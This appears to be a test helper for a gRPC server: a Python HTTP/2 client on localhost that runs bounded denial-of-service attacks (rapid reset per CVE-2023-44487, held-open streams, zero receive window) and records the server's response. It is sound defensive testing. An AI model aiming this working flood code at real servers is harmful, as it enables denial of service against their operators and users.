"""A hostile HTTP/2 peer for the gRPC server's tests, on one raw TCP connection to 127.0.0.1
(the ``h2`` library's state machine, no gRPC client): rapid reset (CVE-2023-44487: streams
opened and cancelled at once, over and over), many streams opened and never finished, and a
receive window of zero (the client never reads what the server sends).

Every attack is bounded (a count of streams, a time) and reports what the server did to the
connection: a GOAWAY (with its error code), a close, or nothing.
"""

from __future__ import annotations

import socket
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.settings

__all__ = ["H2Peer", "Outcome", "flood"]


@dataclass
class Outcome:
    """What the server did while an attack ran."""

    streams_opened: int = 0
    goaway: int | None = None  # its error code, when the server sent a GOAWAY
    closed: bool = False  # the server closed the connection
    refused: int = 0  # streams the server reset (RST_STREAM), e.g. REFUSED_STREAM past its cap
    max_concurrent_streams: int | None = None  # the server's SETTINGS value
    events: list[str] = field(default_factory=list)

    @property
    def cut_off(self) -> bool:
        """The server sent a GOAWAY or closed the connection."""
        return self.goaway is not None or self.closed


class H2Peer:
    """One HTTP/2 client connection speaking just enough gRPC to open streams.

    Args:
        port: the server's gRPC port on 127.0.0.1.
        path: the RPC the streams name (``/inference.GRPCInferenceService/ModelInfer``).
        window: the connection and stream receive window this client announces (0: it never
            lets the server send a byte of response data).
    """

    def __init__(self, port: int, path: str, window: int = 65535) -> None:
        self.path = path
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.conn.local_settings = h2.settings.Settings(client=True, initial_values={
            h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window,
            h2.settings.SettingCodes.ENABLE_PUSH: 0,
        })  # fmt: skip
        self.conn.initiate_connection()
        self.outcome = Outcome()
        self.unsent = bytearray()
        self._flush()

    def _flush(self) -> None:
        """Send what h2 has queued; when the server stops reading (a send times out) the rest
        waits in :attr:`unsent` for the next call."""
        self.unsent += self.conn.data_to_send()
        while self.unsent and not self.outcome.closed:
            try:
                sent = self.sock.send(self.unsent)
            except TimeoutError:
                return
            except OSError:
                self.outcome.closed = True
                return
            del self.unsent[:sent]

    def _headers(self) -> list[tuple[str, str]]:
        return [
            (":method", "POST"), (":scheme", "http"), (":path", self.path), (":authority", "127.0.0.1"),
            ("content-type", "application/grpc"), ("te", "trailers"),
        ]  # fmt: skip

    def read(self, timeout_s: float = 0.0) -> None:
        """Take what the server sent (within ``timeout_s``) into :attr:`outcome`."""
        self.sock.settimeout(timeout_s or 0.000001)
        try:
            data = self.sock.recv(1 << 16)
        except (TimeoutError, BlockingIOError):
            return
        except OSError:
            self.outcome.closed = True
            return
        if not data:
            self.outcome.closed = True
            return
        try:
            events = self.conn.receive_data(data)
        except Exception as exc:  # h2 refuses what it sees after the server's GOAWAY
            self.outcome.events.append(f"h2: {exc!r}")
            return
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                self.outcome.goaway = int(event.error_code or 0)
            elif isinstance(event, h2.events.StreamReset):
                self.outcome.refused += 1
            elif isinstance(event, h2.events.RemoteSettingsChanged):
                changed = event.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
                if changed is not None:
                    self.outcome.max_concurrent_streams = changed.new_value
        self._flush()

    def rapid_reset(self, streams: int, seconds: float, *, read: bool = True) -> Outcome:
        """Open a stream and cancel it at once (HEADERS then RST_STREAM CANCEL), ``streams``
        times or for ``seconds``, whichever ends first; stop early once cut off. ``read``:
        take what the server sends now and then (acknowledging its PINGs, as h2 does); a peer
        that never reads is the flood seen in the wild, which only writes."""
        end = time.monotonic() + seconds
        self.sock.settimeout(0.5)
        while self.outcome.streams_opened < streams and time.monotonic() < end and not self.outcome.cut_off:
            if len(self.unsent) > 1 << 20:  # the server has stopped reading us: wait on it
                self._flush()
                continue
            try:
                stream = self.conn.get_next_available_stream_id()
                self.conn.send_headers(stream, self._headers())
                self.conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
            except Exception as exc:  # the connection is closed on our side after a GOAWAY
                self.outcome.events.append(f"h2: {exc!r}")
                break
            self.outcome.streams_opened += 1
            if self.outcome.streams_opened % 50 == 0:
                self._flush()
                if read:
                    self.read()
        self._flush()
        if read:
            self.read(0.5)
        return self.outcome

    def open_and_hold(self, streams: int, seconds: float) -> Outcome:
        """Open ``streams`` streams (headers, no end of stream: they are never finished) as fast
        as allowed, then hold them for ``seconds``."""
        for _ in range(streams):
            if self.outcome.cut_off:
                break
            try:
                stream = self.conn.get_next_available_stream_id()
                self.conn.send_headers(stream, self._headers())
            except Exception as exc:
                self.outcome.events.append(f"h2: {exc!r}")
                break
            self.outcome.streams_opened += 1
            if self.outcome.streams_opened % 50 == 0:
                self._flush()
                self.read()
        self._flush()
        end = time.monotonic() + seconds
        while time.monotonic() < end and not self.outcome.closed:
            self.read(0.2)
        return self.outcome

    def close(self) -> None:
        self.sock.close()


def flood(port: int, path: str, seconds: float, read: bool = False) -> tuple[Outcome, float, float]:
    """A rapid-reset peer for ``seconds`` on a connection of its own (``read``: see
    ``H2Peer.rapid_reset``; the flood seen in the wild never reads): what the server did to
    it, and when (``time.time()``) the flood began and ended. Module-level, so that a test can
    run it in a process of its own (``multiprocessing`` spawn), where it does not share the
    test's interpreter lock with the honest client."""
    peer = H2Peer(port, path)
    began = time.time()
    try:
        return peer.rapid_reset(10**9, seconds, read=read), began, time.time()
    finally:
        peer.close()
